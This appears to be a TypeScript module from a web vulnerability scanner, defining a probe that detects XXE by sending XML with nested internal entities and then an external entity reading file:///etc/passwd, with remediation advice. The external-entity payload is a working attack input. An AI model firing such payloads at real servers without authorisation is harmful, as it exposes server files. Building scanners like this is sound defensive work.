import type { FetchRequest } from '../../evidence/define-collector.ts';
import { withEntities, withXml } from '../../evidence/parse/application/bodies/xml-body.ts';
import type { InjectionPoint } from '../../evidence/parse/application/injection-point.ts';
import { defineProbe, type ProbeContext } from '../define-probe.ts';
import { PASSWD } from '../injection/files/known-files.ts';
import { locationOf, requestOf, requestWith } from '../points.ts';
import { proofOf } from '../proof/proof.ts';
import { testPoints } from '../tested-points.ts';
import { entityScenes } from './support/entity-scenes.ts';

const NAMES = /xml|soap|feed|rss|svg|saml|wsdl|xsl/i;
const VALUES = /^\s{0,20}<[?!a-z]/i;
const MAX = 6;

export default defineProbe({
  id: 'active/queries/xml-entities',
  title: 'XML of visitors is parsed without entities (XXE)',
  why: 'A parser that resolves entities lets attackers read files of the server, send requests from it, or exhaust its memory.',
  needs: ['address', 'surface'],
  profile: 'standard',
  budget: 20,
  perPoint: 1,
  problems: {
    resolved: {
      severity: 'high',
      message: 'XML external entities (XXE): the parser reads files of the server for entities that a request declares',
      fix: 'Forbid document types: `disallow-doctype-decl` in Java, `resolve_entities=False` in lxml or `defusedxml` in Python, no `LIBXML_NOENT` in PHP, `noent: false` in libxmljs. Better: accept JSON.',
    },
    expanded: {
      severity: 'low',
      likelihood: 'possible',
      message: 'Internal XML entities are expanded: nested ones can exhaust the memory of the server',
      fix: 'Forbid document types: `disallow-doctype-decl` in Java, `defusedxml` in Python, no `LIBXML_NOENT` in PHP. Otherwise limit the expansion of entities.',
    },
  },
  references: ['CWE-611', 'CWE-776', 'OWASP A05:2021'],
  ask: (given, asking) =>
    testPoints(given, asking, resolvedAt, { name: NAMES, value: VALUES, also: ['xml'], max: MAX }),
  scenes: entityScenes,
});

/** The text of the element is made of two entities, the second of which contains the first: `one` and `two` meet only when both are resolved. */
function nested(point: InjectionPoint, one: string, two: string): FetchRequest {
  return declaring(point, `<!ENTITY a "${one}"><!ENTITY b "${two}&a;">`);
}

/** The request with a document whose text is the entity `b`: the body, or the value in another one. */
function declaring(point: InjectionPoint, entities: string): FetchRequest {
  const { where, name, value, body = '' } = point;
  if (where !== 'xml') return requestWith(point, documentOf(value, entities));
  return { ...requestOf(point), body: withEntities(withXml(body, name, '&b;'), entities) };
}

/** A document whose text is the entity `b`. */
function documentOf(value: string, entities: string): string {
  const element = value.replace(/^\s{0,20}<\?[^>]{0,200}\?>\s{0,20}/, '');
  const root = /^<([a-z][\w:.-]{0,60})/i.exec(element)?.[1] ?? 'note';
  const inner = /^<[^>]{1,200}>([^<]{1,500})</.exec(element)?.[1];
  const whole = inner === undefined ? `<${root}>&b;</${root}>` : element.replace(inner, '&b;');
  return `<!DOCTYPE ${root} [${entities}]>${whole}`;
}

async function resolvedAt(point: InjectionPoint, asking: ProbeContext) {
  const [one, two, three, four] = [asking.token(), asking.token(), asking.token(), asking.token()];
  const request = nested(point, one, two);
  const answer = await asking.fetch(request);
  if (!answer?.text.includes(two + one)) return undefined;
  const again = await asking.fetch(nested(point, three, four));
  if (!again?.text.includes(four + three)) return undefined;
  const read = await readAt(point, asking);
  if (read) return read;
  return {
    problem: 'expanded' as const,
    location: locationOf(point),
    evidence: 'two entities that the request declared were resolved',
    proof: proofOf(request, answer),
  };
}

/** An external entity reads a file that every Unix host has, and a missing file next to it is not the same. */
async function readAt(point: InjectionPoint, asking: ProbeContext) {
  const external = (name: string) => declaring(point, `<!ENTITY b SYSTEM "file:///etc/${name}">`);
  const request = external(PASSWD.name);
  const answer = await asking.fetch(request);
  if (!answer || !PASSWD.isIn(answer.text)) return undefined;
  const control = await asking.fetch(external(asking.token()));
  if (!control || PASSWD.isIn(control.text)) return undefined;
  const response = `HTTP/${answer.httpVersion} ${answer.status}\n\n${PASSWD.shown}`;
  return {
    problem: 'resolved' as const,
    location: locationOf(point),
    evidence: PASSWD.words,
    proof: { ...proofOf(request, answer), response },
  };
}
